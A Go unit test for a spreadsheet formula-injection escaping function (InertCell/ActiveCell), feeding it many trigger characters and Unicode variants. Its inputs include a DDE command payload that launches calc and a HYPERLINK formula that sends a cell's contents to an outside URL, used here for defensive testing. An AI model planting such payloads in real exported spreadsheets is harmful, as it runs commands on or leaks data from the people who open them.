package consent

import "testing"

func TestInertCell(t *testing.T) {
	for _, formula := range []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1)", "\tx", "\r", "\n", "＝1+1", "＋1", "－1+1", "＠SUM(1)",
		`=HYPERLINK("http://example.no","x")`, "-2+3+cmd|' /C calc'!A0", "-", "--1", "-1e5", "=", "＝",
		" =1+1", "   @SUM(1)", "\u00a0+1+1", "\u3000-1+1", "\v=1", "\u200b=1", "\ufeff=1", " ＝1", " --1",
	} {
		if got := InertCell(formula); got != "'"+formula {
			t.Errorf("%q is written as %q", formula, got)
		}
	}
	for formula, want := range map[string]string{
		"\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", "a;=1+1": "a;'=1+1", `a,"b;=1`: `a,"b;'=1`, "a;;@SUM(1);-1+1": "a;;'@SUM(1);'-1+1",
		"a\t+1;-12": "a\t'+1;-12", "a\r\n=1": "a\r\n'=1", "=1;=2": "'=1;'=2", "a;＝1": "a;'＝1", ";=1": ";'=1",
		"a; =1": "a;' =1", "a;\u00a0@x; b": "a;'\u00a0@x; b", "\t =1": "'\t' =1",
		`a;=HYPERLINK("http://example.no?x="&A1,"x")`: `a;'=HYPERLINK("http://example.no?x="&A1,"x")`,
	} {
		if got := InertCell(formula); got != want {
			t.Errorf("%q is written as %q, want %q", formula, got, want)
		}
		if back := ActiveCell(want); back != formula {
			t.Errorf("%q is read as %q, want %q", want, back, formula)
		}
	}
	for _, text := range []string{
		"", "a=1", "a;b", "a; b=1", "a;-12", " -12", "  a=1", " ", "\u00a0a", "it's", "a;'b", "1-2", "-12", "0", "é", "ﬁ", "，", "\xef", "statistics marketing/youtube", `she said "yes"`, "two\r\nlines", "'quoted",
	} {
		if got := InertCell(text); got != text {
			t.Errorf("%q is written as %q", text, got)
		}
		if back := ActiveCell(text); back != text {
			t.Errorf("%q is read as %q", text, back)
		}
	}
}
